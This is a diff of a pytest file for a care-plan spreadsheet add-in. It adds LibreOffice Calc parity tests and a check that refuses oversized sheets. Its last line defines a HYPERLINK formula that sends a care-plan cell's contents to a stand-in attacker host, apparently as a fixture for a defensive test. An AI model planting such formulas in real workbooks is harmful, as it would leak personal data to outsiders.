@@ -19,6 +19,7 @@ import openpyxl
 import pytest
 
 import libreoffice
+import parity_cases
 from xl_careplan.addin import flow
 from xl_careplan.addin.oxt import BUTTON_TITLE, COMMAND_URL, MENU_TITLE, build_oxt
 from xl_careplan.fields import SHEET_RESULTS
@@ -33,6 +34,9 @@ DIRECT = ["07_period_and_dates.xlsx", "10_acknowledged_deviation.xlsx", "03_othe
 VIA_EXTENSION = "05_asahikawa_kaimono_daikou.xlsx"  # checked with the profile chosen when building the .oxt
 EXT_PROFILE = "asahikawa"
 TEMPLATE = ROOT / "templates" / "居宅サービス計画書.xlsx"
+# the Calc parity check reads every unseen-class case and these samples (all samples: tests/test_addin_parity.py with
+# the stand-in; in Calc each sample costs ~3 s, and all 12 were equal when measured)
+CALC_PARITY_SAMPLES = ("01_asahikawa_clean.xlsx", "08_missing_service_fields.xlsx")
 GRID_SAMPLES = ["03_other_layout_wareki.xlsx", "07_period_and_dates.xlsx", "11_monitoring_gap.xlsx"]
 # LibreOffice 7.4 drops number formats with a BCP 47 private-use locale such as Excel's
 # [$-ja-JP-x-gannen]ggge"年"m"月"d"日" (和暦 with 元年) on import: the cell shows its serial number,
@@ -79,6 +83,12 @@ def calc_run(tmp_path_factory):
     jobs.append({"kind": "addons"})
     grids = [TEMPLATE] + [SAMPLES / n for n in GRID_SAMPLES]
     jobs += [{"kind": "grid", "in": copy(p)} for p in grids]
+    n_before_parity = len(jobs)
+    parity = [p for p in parity_cases.build(work / "parity") if p.parent != SAMPLES or p.name in CALC_PARITY_SAMPLES]
+    jobs += [{"kind": "findings", "in": copy(p), "profile": parity_cases.profile_of(p), "today": TODAY.isoformat()}
+             for p in parity]
+    far_out = work / "far_1.xlsx"
+    jobs.append({"kind": "click", "in": _far_cell(inputs / "far.xlsx"), "out": [str(far_out)], "today": TODAY.isoformat()})
     calc = libreoffice.Calc(work)
     calc.start()
     try:
@@ -91,9 +101,38 @@ def calc_run(tmp_path_factory):
     keys = DIRECT + [CALC_DROPS_FORMATS, "reopened", "extension", "received"]
     out = {k: {"clicks": r["clicks"], "out": outs[k]} for k, r in zip(keys, results[1:1 + len(keys)])}
     out["install"] = results[0]
-    out["addons"] = results[-1 - len(grids)]
-    out["grids"] = dict(zip([p.name for p in grids], results[-len(grids):]))
+    out["addons"] = results[n_before_parity - 1 - len(grids)]
+    out["grids"] = dict(zip([p.name for p in grids], results[n_before_parity - len(grids):n_before_parity]))
+    out["parity"] = {p: r["findings"] for p, r in zip(parity, results[n_before_parity:])}
+    out["far"] = {"clicks": results[-1]["clicks"], "out": [far_out]}
     return out
+
+
+def _far_cell(dest: Path) -> str:
+    """A plan with one value far right: the used block from A1 is 4.9 million cells."""
+    wb = openpyxl.load_workbook(SAMPLES / "07_period_and_dates.xlsx")
+    wb.worksheets[1]["XFD300"] = "x"
+    wb.save(dest)
+    return str(dest)
+
+
+def test_calc_reads_what_the_file_path_reads_on_every_parity_case(calc_run):
+    """The Calc button finds (rule, sheet, cell, acknowledged) what `check` finds in the file: hidden rows and
+    columns, text boxes, ovals, the print header, a hidden 方針と異なる理由 sheet (tests/parity_cases.py)."""
+    from xl_careplan.pipeline import check_file
+
+    differ = []
+    for path, found in calc_run["parity"].items():
+        res = check_file(str(path), load_profile(parity_cases.profile_of(path)), TODAY)
+        if [list(k) for k in parity_cases.key(res.findings)] != found:
+            differ.append(path.name)
+    assert differ == [], f"{len(calc_run['parity']) - len(differ)} of {len(calc_run['parity'])} equal"
+
+
+def test_a_far_cell_is_refused_in_calc_and_nothing_is_written(calc_run):
+    (click,) = calc_run["far"]["clicks"]
+    assert not click["ok"] and "XFD300" in click["message"] and "大きすぎる" in click["message"]
+    assert SHEET_RESULTS not in openpyxl.load_workbook(calc_run["far"]["out"][0]).sheetnames
 
 
 EVIL = '=HYPERLINK("http://attacker.example/?"&第1表!B4,"詳細")'
